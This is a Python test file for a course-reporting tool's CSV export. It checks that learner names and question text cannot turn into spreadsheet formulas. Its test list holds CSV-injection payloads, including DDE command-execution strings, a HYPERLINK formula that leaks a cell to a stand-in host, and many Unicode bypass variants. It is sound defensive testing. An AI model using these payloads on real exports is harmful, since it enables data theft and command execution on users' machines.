"""The tables as a spreadsheet takes them: text that it shows, numbers that it can count with, no formula."""

import codecs
import csv

import pytest
from hand_ins import RIGHT, WRONG, attempt, hand_in

import course_class as classroom
from course_class import csv_export

# What OWASP names under "CSV injection", and the ways around a simple guard.
EVIL = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Marks")', "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠x",
    "a;=1+1", 'a","=1+1', 'a";"=1+1', "a\t=1+1", "a\n=1+1", "a|=1+1", "\u200b=1+1", "'=1+1", "\ufeff=1+1", "\u00ad=1+1",
    "\u2060@x", "\u115f=1+1", "\u3164=1+1", "\ufe0f-1", "\x00=1+1", "\x1b=1+1", "a;\u00ad=1+1", "﹦1+1", "\u2800=1",
    '"=1+1',
]  # fmt: skip
SIGNS = tuple("=+-@＝＋－＠﹦﹢﹣﹫\t\r\n")
UNSEEN = " \u00ad\u115f\u200b\u2060\u2800\u3164\ufe0f\ufeff"


def is_number(cell):
    try:
        return bool(float(cell)) or True
    except ValueError:
        return False


def assert_harmless(file):
    """Read a table as spreadsheets of different countries do, and look at every cell."""
    for delimiter in ",;\t|":
        with file.open(encoding="utf-8-sig", newline="") as stream:
            for row in csv.reader(stream, delimiter=delimiter):
                for cell in row:
                    assert is_number(cell) or not cell.lstrip(UNSEEN).startswith(SIGNS), cell
                    assert not set(cell) & set("\x00\x1b\u202e"), cell


def test_no_name_and_no_answer_of_a_learner_is_a_formula(tmp_path):
    for number, evil in enumerate(EVIL):
        name = evil.replace("/", "").replace("\0", "").strip() or "x"
        lines = [attempt("01-c01", WRONG, 1, id=f"{number}-1"), attempt("01-x01", evil, 2, id=f"{number}-2")]
        hand_in(tmp_path / "in" / f"{name}{number}.jsonl", evil, lines)
    (tmp_path / "in" / "=1+1.jsonl").write_text("broken", "utf-8")
    made = classroom.report(tmp_path / "in", tables=tmp_path / "tables")
    assert made.learners == len(EVIL)
    for name in ("questions.csv", "learners.csv", "notes.csv"):
        assert_harmless(tmp_path / "tables" / name)
        assert (tmp_path / "tables" / name).read_bytes().startswith(codecs.BOM_UTF8)


@pytest.mark.parametrize("text", ["Zoë", "ليلى", "a = b", "Tripoli - Sirte", "2022-07-19", "x@y", "don't", "a; b", ""])
def test_a_harmless_text_stays_as_it_is(text):
    assert csv_export.safe(text) == text


def test_numbers_are_numbers(tmp_path):
    for number in range(12):
        lines = [attempt("01-c01", RIGHT if number % 3 else WRONG, 1, id=f"{number}-1")]
        hand_in(tmp_path / "in" / f"{number}.jsonl", f"ليلى {number}", lines)
    classroom.report(tmp_path / "in", tables=tmp_path)
    with (tmp_path / "questions.csv").open(encoding="utf-8-sig", newline="") as stream:
        [row] = csv.DictReader(stream)
    assert list(row)[:4] == ["question", "n", "difficulty", "discrimination"]
    assert (row["question"], row["n"], float(row["difficulty"])) == ("01-c01", "12", pytest.approx(2 / 3))
    with (tmp_path / "learners.csv").open(encoding="utf-8-sig", newline="") as stream:
        assert [row["learner"] for row in csv.DictReader(stream)] == [f"ليلى {n}" for n in sorted(range(12), key=str)]


@pytest.mark.parametrize("evil", [*EVIL, "\x00a\x1b[31m\u202eb", "x" * 5000])
def test_nothing_of_a_question_that_came_along_is_a_formula_or_a_hidden_sign(evil, tmp_path):
    key = {
        "id": evil, "kind": "choice", "set": evil, "text": evil, "objective": evil,
        "options": [{"text": "b" + evil, "right": True, "feedback": evil}, {"text": evil, "feedback": evil}],
    }  # fmt: skip
    lines = [attempt("01-c01", WRONG, quiz=f"loaded/{evil}", question=evil, version=1, response=evil, id=f"{number}-1")
             for number in range(2)]  # fmt: skip
    hand_in(tmp_path / "in" / "a.jsonl", "a", [*lines[:1], {"quiz": f"loaded/{evil}", "question": key}])
    hand_in(tmp_path / "in" / "b.jsonl", "b", lines[1:])
    made = classroom.report(tmp_path / "in", tables=tmp_path / "tables")
    assert [one.n for one in made.items] == [2]
    assert_harmless(tmp_path / "tables" / "questions.csv")
    assert not set(made.html) & set("\x00\x1b\u202e\ufeff\u00ad")
    rows = csv.reader((tmp_path / "tables" / "questions.csv").read_text("utf-8").splitlines())
    assert all(len(cell) < 200 for row in rows for cell in row)
